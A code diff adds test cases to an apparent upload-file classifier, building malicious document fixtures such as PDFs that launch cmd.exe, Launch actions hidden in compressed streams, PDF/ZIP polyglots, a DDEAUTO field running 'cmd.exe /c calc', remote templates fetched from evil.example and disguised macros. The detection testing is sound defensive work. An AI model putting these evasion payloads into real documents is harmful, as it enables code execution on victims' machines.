@@ -11,14 +11,26 @@ const workbook = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sh
 const html = Buffer.from(`<html><script>alert(1)</script>${' '.repeat(600)}</html>`)
 const packed = (text: string): Buffer => {
   const { deflateSync } = process.getBuiltinModule('zlib')
-  return deflateSync(Buffer.from(text))
+  return deflateSync(Buffer.from(text, 'latin1'))
 }
-const withPacked = (text: string): Buffer => {
+const withStream = (dictionary: string, content: Buffer): Buffer => {
   const whole = pdf({ objects: '@@' }).toString('latin1')
+  const stream = `7 0 obj\n<< ${dictionary} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj\n`
   return Buffer.from(
-    whole.replace('@@', `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\n${packed(text).toString('latin1')}\nendstream\nendobj\n`),
+    whole.replace('@@', () => stream),
     'latin1',
   )
+}
+const withPacked = (text: string, filter = '/Filter /FlateDecode', pack = (bytes: Buffer): Buffer => bytes): Buffer =>
+  withStream(`/Type /ObjStm /N 1 /First 4 ${filter}`, pack(packed(text)))
+const withAttached = (content: Buffer, name: string): Buffer =>
+  withStream(`/Type /EmbeddedFile /Of << /F (${name}) >> /Filter /FlateDecode`, packed(content.toString('latin1')))
+/** A ZIP whose closing remark is the end of a PDF. */
+const asZipToo = (): Buffer => {
+  const container = zip([{ name: 'word/vbaProject.bin', content: 'x' }])
+  const end = Buffer.from('\nxref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n')
+  container.writeUInt16LE(end.length, container.length - 2)
+  return Buffer.concat([Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'), container, end])
 }
 const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(64), Buffer.from('*/=1;alert(1)')])
 const plainJpeg = await photo()
@@ -34,11 +46,22 @@ const flood = (() => {
   return Buffer.concat([plainPng.subarray(0, 8), header, plainPng.subarray(29)])
 })()
 const part = (name: string, content: string | Buffer = 'x', more = {}) => ({ name, content, ...more })
-const relation = (type: string, target: string) =>
-  part(
-    'word/_rels/settings.xml.rels',
-    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
-  )
+const relation = (type: string, target: string, { quote = '"', mode = 'External' } = {}) => {
+  const said = `Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"`
+  return part('word/_rels/settings.xml.rels', `<Relationships><Relationship ${said.replaceAll('"', quote)}/></Relationships>`)
+}
+const withRemark = (container: Buffer): Buffer => {
+  const remark = Buffer.from('%PDF-1.4 and so on')
+  container.writeUInt16LE(remark.length, container.length - 2)
+  return Buffer.concat([container, remark])
+}
+/** The second of two equal members is the first once more: both point to the same bytes. */
+const sharing = (): Buffer => {
+  const container = docx({ more: [part('word/a.xml', '<a/>'), part('word/b.xml', '<a/>')] })
+  const listed = (name: string): number => container.lastIndexOf(name) - 46
+  container.writeUInt32LE(container.readUInt32LE(listed('word/a.xml') + 42), listed('word/b.xml') + 42)
+  return container
+}
 
 describe('R130 R131 what a file is, by its content', () => {
   test.each<[string, string, Buffer, { type: string; marks: string[] } | null]>([
@@ -62,6 +85,47 @@ describe('R130 R131 what a file is, by its content', () => {
     ['FC-005 a PDF that starts a program', 'x.pdf', pdf({ objects: '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n' }), null],
     ['FC-005 the same packed away', 'x.pdf', withPacked('5 0 << /S /Launch >>'), null],
     ['a PDF with another file after its end', 'x.pdf', pdf({ tail: 'PK\u0003\u0004' }), null],
+    ['FC-006 a PDF that is a ZIP as well', 'x.pdf', asZipToo(), null],
+    [
+      'markup between head and objects',
+      'x.pdf',
+      Buffer.from(pdf().toString('latin1').replace('\n', '\n%<html><script>alert(1)</script>\n'), 'latin1'),
+      null,
+    ],
+    [
+      'FC-004 a script behind a remark that says stream',
+      'x.pdf',
+      pdf({ objects: '% stream\n5 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n% endstream\n' }),
+      { type: 'pdf', marks: ['script'] },
+    ],
+    [
+      'FC-005 a program started from inside another stream',
+      'x.pdf',
+      pdf({ objects: '4 0 obj\n<< /Length 60 >>\nstream\n5 0 obj\n<< /S /Launch /F (cmd) >>\nendobj\nendstream\nendobj\n' }),
+      null,
+    ],
+    [
+      'objects packed so that only some can read them',
+      'x.pdf',
+      withPacked('5 0 << /S /Launch >>', '/Filter [/ASCIIHexDecode /FlateDecode]', (bytes) => Buffer.from(bytes.toString('hex'))),
+      null,
+    ],
+    ['the same with a predictor', 'x.pdf', withPacked('x', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'), null],
+    [
+      'the same under a name in numbers',
+      'x.pdf',
+      Buffer.from(withPacked('5 0 << /S /Launch >>').toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1'),
+      null,
+    ],
+    ['a program attached under a quiet name', 'x.pdf', withAttached(Buffer.from('4d5a9000', 'hex'), 'notes.txt'), null],
+    ['a program attached by its name', 'x.pdf', withAttached(Buffer.from('x'), 'setup.exe'), null],
+    ['a text attached', 'x.pdf', withAttached(Buffer.from('hello'), 'notes.txt'), { type: 'pdf', marks: ['attachments'] }],
+    [
+      'a PDF that opens another file',
+      'x.pdf',
+      pdf({ objects: '5 0 obj\n<< /S /GoToR /F (\\\\host\\a) >>\nendobj\n' }),
+      { type: 'pdf', marks: ['external-links'] },
+    ],
     ['FC-007 a PNG mark, then HTML', 'x.png', Buffer.concat([plainPng.subarray(0, 8), html]), null],
     ['FC-008 a JPEG with script in a comment', 'x.jpg', commented, { type: 'jpg', marks: [] }],
     [
@@ -98,6 +162,49 @@ describe('R130 R131 what a file is, by its content', () => {
     ],
     ['FC-018 a member that leads out', 'x.docx', docx({ more: [part('../../x')] }), null],
     ['FC-019 a member that is a link', 'x.docx', docx({ more: [part('word/link', '/etc/passwd', { attributes: 0o120777 << 16 })] }), null],
+    ['FC-012 macros under another name', 'x.docx', docx({ more: [relation('vbaProject', 'word/readme.bin', { mode: 'Internal' })] }), null],
+    [
+      'the same declared only among the types',
+      'x.docx',
+      docx({ types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
+      null,
+    ],
+    [
+      'a fetched template in other quotes',
+      'x.docx',
+      docx({ more: [relation('attachedTemplate', 'http://evil.example/t.dotm', { quote: "'" })] }),
+      { type: 'docx', marks: ['external-links'] },
+    ],
+    [
+      'a fetched template with its mode in numbers',
+      'x.docx',
+      docx({ more: [relation('attachedTemplate', 'http://evil.example/t', { mode: 'Ext&#101;rnal' })] }),
+      { type: 'docx', marks: ['external-links'] },
+    ],
+    [
+      'a field that calls another program',
+      'x.docx',
+      docx({ document: '<w:document><w:instrText> DDEAUTO c:\\\\cmd.exe "/c calc" </w:instrText></w:document>' }),
+      { type: 'docx', marks: ['external-links'] },
+    ],
+    ['a part that is a program', 'x.docx', docx({ more: [part('word/media/image1.png', Buffer.from('4d5a90000300', 'hex'))] }), null],
+    ['a zip called a picture', 'x.docx', docx({ more: [part('word/media/image1.png', zip([part('a', 'b')]))] }), null],
+    [
+      'a workbook in it',
+      'x.docx',
+      docx({ more: [part('word/embeddings/sheet1.xlsx', zip([part('a', 'b')]))] }),
+      { type: 'docx', marks: ['attachments'] },
+    ],
+    [
+      'entities in a part that is not called XML',
+      'x.docx',
+      docx({ more: [part('word/data.bin', '<!DOCTYPE l [<!ENTITY a "aa">]><l/>')] }),
+      null,
+    ],
+    ['two parts that differ in case', 'x.docx', docx({ more: [part('WORD/DOCUMENT.XML', '<w:document/>')] }), null],
+    ['something behind its end', 'x.docx', withRemark(docx()), null],
+    ['FC-017 members that share their bytes', 'x.docx', sharing(), null],
+    ['a document that is none', 'x.docx', docx({ document: '<html/>' }), null],
     ['FC-020 a zip in it', 'x.docx', docx({ more: [part('word/inner.zip', zip([part('a', 'b')]))] }), null],
     ['more members than a document has', 'x.docx', docx({ more: Array.from({ length: 2001 }, (_, i) => part(`word/${i}`)) }), null],
     ['FC-021 an old Word document', 'ok.doc', compound(['Root Entry', 'WordDocument', '1Table']), { type: 'doc', marks: [] }],
@@ -107,6 +214,16 @@ describe('R130 R131 what a file is, by its content', () => {
       compound(['Root Entry', 'WordDocument', 'Macros', 'VBA']),
       { type: 'doc', marks: ['macros'] },
     ],
+    ['FC-022 an installer that says it is a document', 'x.doc', compound(['Root Entry', 'WordDocument', '\u4840\u3b3f\u43f2']), null],
+    ['FC-023 a workbook named .doc', 'x.doc', compound(['Root Entry', 'Workbook', 'WordDocument']), null],
+    [
+      'an old Word document with something attached',
+      'x.doc',
+      compound(['Root Entry', 'WordDocument', 'ObjectPool']),
+      { type: 'doc', marks: ['attachments'] },
+    ],
+    ['HTML named .doc', 'x.doc', html, null],
+    ['rich text named .doc', 'x.doc', Buffer.from(`{\\rtf1 ${' '.repeat(2000)}}`), null],
     ['an installer named .doc', 'x.doc', compound(['Root Entry', '\u0005SummaryInformation', 'Property']), null],
     [
       'FC-024 a Word document with a password',
